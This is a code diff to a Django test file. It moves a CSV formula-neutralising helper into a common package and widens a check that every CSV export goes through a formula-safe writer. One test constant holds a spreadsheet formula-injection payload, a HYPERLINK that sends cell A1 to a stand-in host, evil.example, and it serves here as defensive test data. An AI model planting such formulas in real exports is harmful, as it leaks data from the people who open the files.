@@ -12,10 +12,10 @@ from django.urls import reverse
 
 from arena.engine.campaign.results import ResultKind
 from campaigns.services.fixtures import fixtures_generate
+from common.csv_export import neutralise
 from tests.campaigns.factories import LeagueFactory, enter_team
 from tests.campaigns.helpers import facts, play
 from tests.factories import UserFactory
-from viadal_site.csv_export import neutralise
 
 ROOT = Path(__file__).resolve().parents[2]
 EVIL_TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -67,10 +67,10 @@ def test_neutralise_prefixes_every_formula_start(value, written):
 def test_every_csv_export_goes_through_the_formula_safe_writer():
     """A new export that calls csv.writer itself would write names raw; it must use formula_safe_writer."""
     offenders = []
-    for package in ("accounts", "arena", "campaigns", "teams", "viadal_site", "bench"):
+    for package in ("accounts", "arena", "campaigns", "common", "teams", "viadal_site", "bench"):
         for path in sorted((ROOT / package).rglob("*.py")):
             relative = path.relative_to(ROOT).as_posix()
-            if relative == "viadal_site/csv_export.py":
+            if relative == "common/csv_export.py":
                 continue
             if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
                 offenders.append(relative)
